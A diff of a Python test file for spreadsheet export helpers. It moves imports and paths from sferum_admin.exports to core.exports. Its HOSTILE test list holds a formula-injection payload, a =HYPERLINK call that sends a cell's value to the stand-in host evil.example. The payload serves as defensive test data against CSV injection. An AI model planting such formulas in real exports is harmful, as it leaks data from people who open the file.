@@ -7,7 +7,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from sferum_admin.exports import csv_bytes, export_response, looks_like_formula, xlsx_bytes
+from core.exports import csv_bytes, export_response, looks_like_formula, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?p="&D3,"Открыть")',
@@ -88,18 +88,18 @@ def test_export_response_is_an_attachment_with_a_readable_name(fmt, content_type
 
 
 def test_no_export_writes_spreadsheets_past_the_helper():
-    """Every CSV/XLSX a person downloads goes through sferum_admin.exports, present and future."""
+    """Every CSV/XLSX a person downloads goes through core.exports, present and future."""
     import re
     from pathlib import Path
 
-    root = Path(__file__).resolve().parent.parent
+    root = Path(__file__).resolve().parents[2]
     writer = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|WriteOnlyCell|xlsxwriter")
     skip = {"tests", "bench", "node_modules", ".venv", "static", "locale", "templates"}
     offenders = [
         str(path.relative_to(root))
         for path in root.rglob("*.py")
         if not skip & set(path.relative_to(root).parts[:1])
-        and path.relative_to(root).as_posix() != "sferum_admin/exports.py"
+        and path.relative_to(root).as_posix() != "core/exports.py"
         and writer.search(path.read_text(encoding="utf-8"))
     ]
 
